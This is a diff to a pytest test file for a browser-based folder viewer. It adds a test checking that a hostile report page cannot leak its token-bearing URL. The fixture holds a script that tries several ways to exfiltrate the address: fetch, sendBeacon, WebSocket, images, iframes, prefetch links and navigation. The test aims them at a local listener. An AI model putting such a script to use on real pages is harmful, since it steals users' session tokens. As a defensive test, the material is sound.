@@ -1,5 +1,6 @@
 """The home page of a processing folder tells what its logs, notes and files tell, and nothing of other folders."""
 
+import contextlib
 import json
 import os
 import re
@@ -15,7 +16,7 @@ import zlib
 import pytest
 from viewer_set import viewed
 
-from browser import chromium, pale_texts, record_touches, until, untouched
+from browser import beyond_tab, chromium, pale_texts, record_touches, until, untouched
 from puredials.errors import FileError
 from puredials.io.running import Running
 from puredials.text import text_table
@@ -384,8 +385,45 @@ def test_the_page_shows_steps_logs_and_reports_and_opens_viewers(browser, served
     assert untouched(page, "header, aside, #home, #tabs") == []
     page.fill("#like", "")
     assert pale_texts(page) == []
+    assert beyond_tab(page) == ([], [])
     running.close()
     assert not faults
+
+
+HOSTILE = """<script>
+  const told = "{there}?" + encodeURIComponent(location.href), image = new Image();
+  image.src = told;
+  const tries = [
+    () => fetch(told, {{ mode: "no-cors" }}), () => fetch("state.json"), () => navigator.sendBeacon(told),
+    () => new WebSocket(told.replace("http", "ws")), () => open(told), () => (top.location = told),
+    () => document.write(`<link rel="prefetch" href="${{told}}"><iframe src="${{told}}"></iframe>`),
+  ];
+  for (const act of tries) try {{ act()?.catch?.(() => 0); }} catch {{ }}
+  console.log("tried");
+  setTimeout(() => (location.href = told), 200);
+</script>"""
+
+
+def test_a_hostile_report_tells_nobody_of_the_address(browser, served, folder):
+    """Its script knows the address of the report, with the token in it; nothing that it tries leaves the computer."""
+    page, said = browser.new_page(), []
+    page.on("console", lambda line: said.append(line.text))
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        there = f"http://127.0.0.1:{listener.getsockname()[1]}/"
+        (folder / "a.html").write_text(HOSTILE.format(there=there))
+        page.goto(served.address)
+        page.click("#steps button:has-text('find_spots')")
+        until(page, lambda: "tried" in said)
+        page.wait_for_timeout(1000)
+        assert page.url == served.address
+        listener.settimeout(0.1)
+        with contextlib.suppress(TimeoutError):
+            while True:  # browsers connect ahead of time, and then say nothing
+                connection = listener.accept()[0]
+                with connection, contextlib.suppress(TimeoutError):
+                    connection.settimeout(0.1)
+                    assert connection.recv(100) == b""
+    page.close()
 
 
 def test_tables_of_logs_are_shown_as_tables(browser, served, folder):
